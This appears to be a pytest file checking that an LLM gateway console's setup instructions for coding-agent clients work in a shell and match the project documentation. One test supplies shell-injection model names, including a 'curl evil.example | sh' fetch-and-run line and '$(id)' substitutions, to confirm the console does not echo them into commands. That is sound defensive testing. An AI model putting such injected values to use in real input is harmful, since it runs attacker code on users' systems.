"""The settings of clients that the console shows are followed in a shell, and compared with docs/clients.md."""

import json
import re
import urllib.request
from http.client import HTTPResponse
from pathlib import Path
from urllib.parse import urlencode

import pytest
from support.client_steps import Followed, Step, follow, read_clients
from support.gateways import LocalGateway
from support.pages import ROOT, blocks, spans

from gateway.accounts.members import list_members
from gateway.surfaces.console.client_settings import PLACEHOLDER, load_clients, show_client

MODEL = "gpt-4o-mini"
CSRF = re.compile(r'name="csrf" value="([^"]*)"')
TOKEN = re.compile(r'<pre id="token">(llmgtwy_[\w-]+)</pre>')


class Person:
    """The owner of a gateway's first organization with a session cookie, as a browser without scripts."""

    def __init__(self, gateway: LocalGateway) -> None:
        self.gateway = gateway
        member = list_members(gateway.services.store.database, gateway.organization_id)[0]
        self._cookie = f"llmgateway.session_token={gateway.services.management.sessions.open(member.user_id).token}"

    def open(self, path: str, **fields: str) -> str:
        """Return a page; with fields, the answer to its form."""
        headers = {"Cookie": self._cookie, "Origin": self.gateway.address}
        data = urlencode(fields).encode() if fields else None
        answer: HTTPResponse = urllib.request.urlopen(
            urllib.request.Request(self.gateway.address + path, data, headers), timeout=60
        )
        return answer.read().decode()

    def create_key(self) -> tuple[str, str]:
        """Create a key in the console. Return its token and the page that shows it."""
        csrf = CSRF.findall(self.open("/console/keys/new"))[0]
        fields = {"csrf": csrf, "action": "create", "description": "Mine", "project": self.gateway.project_id}
        page = self.open("/console/keys/new", **fields)
        return TOKEN.findall(page)[0], page


@pytest.fixture
def person(own_gateway: LocalGateway) -> Person:
    return Person(own_gateway)


def variables_of(address: str, key: str, model: str) -> dict[str, dict[str, str]]:
    """The variables that each client reads, as its documentation names them."""
    return {
        "claude": {
            "ANTHROPIC_BASE_URL": address,
            "ANTHROPIC_AUTH_TOKEN": key,
            "ANTHROPIC_API_KEY": "",
            "CLAUDE_CODE_ENABLE_GATEWAY_MODEL_DISCOVERY": "1",
            "CLAUDE_CODE_GATEWAY_HINT_HEADERS": "1",
            **({} if model == "auto" else {"ANTHROPIC_MODEL": model, "ANTHROPIC_DEFAULT_HAIKU_MODEL": model}),
        },
        "codex": {"LLMGATEWAY_API_KEY": key},
        "opencode": {"LLMGATEWAY_API_KEY": key},
        "aider": {"OPENAI_API_KEY": key, "OPENAI_API_BASE": f"{address}/v1"},
        "qwen": {"OPENAI_API_KEY": key, "OPENAI_BASE_URL": f"{address}/v1", "OPENAI_MODEL": model},
        "goose": {
            "GOOSE_PROVIDER": "openai",
            "GOOSE_MODEL": model,
            "OPENAI_API_KEY": key,
            "OPENAI_HOST": address,
            "OPENAI_BASE_PATH": "v1/chat/completions",
        },
        "kimi": {
            "KIMI_MODEL_NAME": model,
            "KIMI_MODEL_API_KEY": key,
            "KIMI_MODEL_PROVIDER_TYPE": "openai",
            "KIMI_MODEL_BASE_URL": f"{address}/v1",
            "KIMI_MODEL_CAPABILITIES": "tool_use",
        },
        "crush": {"LLMGATEWAY_API_KEY": key},
        "gemini": {
            "GEMINI_API_KEY": key,
            "GOOGLE_GEMINI_BASE_URL": address,
            "GOOGLE_GENAI_USE_GCA": "false",
            "GOOGLE_GENAI_USE_VERTEXAI": "false",
        },
    }


def arguments_of(address: str, key: str, model: str) -> dict[str, list[str]]:
    header = f"Authorization: Bearer {key}"
    return {
        "claude": [],
        "codex": [],
        "opencode": [],
        "kimi": [],
        "crush": [],
        "aider": ["--model", f"openai/{model}"],
        "qwen": ["--auth-type", "openai", "--model", model],
        "goose": ["session"],
        "gemini": ["--model", model],
        "mcp-claude": ["mcp", "add", "--transport", "http", "llmgateway", f"{address}/mcp", "--header", header],
        "node": ["tsx", "main.mts"],
        "ai-sdk": ["tsx", "main.mts"],
    }


def check_file(client: str, content: object, address: str, key: str, model: str) -> None:
    """Check the members that lead a client to the gateway."""
    text = content if isinstance(content, str) else json.dumps(content)
    if client == "gemini":
        assert content == {"security": {"auth": {"selectedType": "gemini-api-key"}}}
        return
    assert re.findall(r"http://[^\"/]+", text) == [address], client
    assert client.startswith("mcp") or model in text, client
    if client in ("codex", "opencode", "crush", "mcp-code"):
        assert key not in text and re.search(r"LLMGATEWAY_API_KEY|input:key", text)
    else:
        assert key in text


# Programs that are not the client's id; without any, all of its commands run.
PROGRAMS = {"curl": (), "python": (), "mcp-claude": ("claude",), "node": ("npm", "npx"), "ai-sdk": ("npm", "npx")}


def check_client(client: str, steps: list[Step], home: Path, address: str, key: str, model: str) -> Followed:
    """Follow the steps of a client and check what came of them."""
    home.mkdir()
    texts = "".join(step.text for step in steps)
    assert not PLACEHOLDER.search(texts), texts
    own = PROGRAMS.get(client, (client,))
    followed = follow(steps, home, *own)
    expected = variables_of(address, key, model)
    if client in expected:
        assert followed.variables == expected[client]
    assert followed.arguments == arguments_of(address, key, model).get(client, [])
    for content in followed.files.values():
        check_file(client, content, address, key, model)
    for value in followed.values.values():
        assert value in (f"{address}/v1", key, model)
    return followed


@pytest.mark.parametrize("model", [MODEL, "auto"])
def test_settings_of_the_key_page_work_as_they_are_copied(person: Person, tmp_path: Path, model: str) -> None:
    address = person.gateway.address
    key, page = person.create_key()
    clients = read_clients(page)
    if model != "auto":
        clients = {
            client: [Step(step.kind, step.place, step.text.replace("llmgtwy_…", key)) for step in steps]
            for client, steps in read_clients(person.open(f"/console/setup?model={model}")).items()
        }
    assert set(clients) == {client.id for client in load_clients()}
    for client, steps in clients.items():
        assert steps, client
        followed = check_client(client, steps, tmp_path / client, address, key, model)
        if client == "curl":
            assert json.loads(followed.output)["choices"][0]["message"]["content"]
        if client == "python":
            assert followed.output.strip()


def test_a_gateway_below_a_path_is_named_with_it(tmp_path: Path) -> None:
    for client in load_clients():
        shown = show_client(client, "https://llm.example.com/gw", "llmgtwy_x", "vendor/some-model")
        if client.id == "goose":
            (step,) = shown.steps
            followed = follow([Step(step.kind, step.place, step.text)], tmp_path / "goose", "goose")
            assert followed.variables["OPENAI_HOST"] == "https://llm.example.com"
            assert followed.variables["OPENAI_BASE_PATH"] == "gw/v1/chat/completions"
        elif "https://" in (texts := "".join(step.text for step in shown.steps)):
            assert "https://llm.example.com/gw" in texts


@pytest.mark.parametrize("model", ["x; curl evil.example | sh", "$(id)", "`id`", 'a"b', "a\nb", "-x"])
def test_a_name_of_a_model_that_a_shell_would_run_is_not_shown(person: Person, model: str) -> None:
    page = person.open(f"/console/setup?{urlencode({'model': model})}")
    for steps in read_clients(page).values():
        assert not any(model in step.text for step in steps if step.kind == "shell" and len(model) > 2)
    assert 'data-model="auto"' in page


def test_the_document_of_clients_shows_the_same_settings() -> None:
    """Each text of a client is a block of docs/clients.md, with any model and the documents' address and key."""
    texts = [block.text.strip() for block in blocks() if block.page == "docs/clients.md"]
    texts += spans(ROOT / "docs" / "clients.md")
    page = (ROOT / "docs" / "clients.md").read_text()
    missing = []
    for client in load_clients():
        if client.group != "Coding agents":
            continue
        for step in show_client(client, "http://127.0.0.1:4001", "llmgtwy_…", "some-model").steps:
            wanted = re.escape(step.text).replace("some\\-model", "(?:[\\w./-]+)")
            if not any(re.fullmatch(wanted, text) for text in texts):
                missing.append(f"{client.id}:\n{step.text}")
            if step.place not in page:
                missing.append(step.place)
    assert not missing, "\n\n".join(missing)
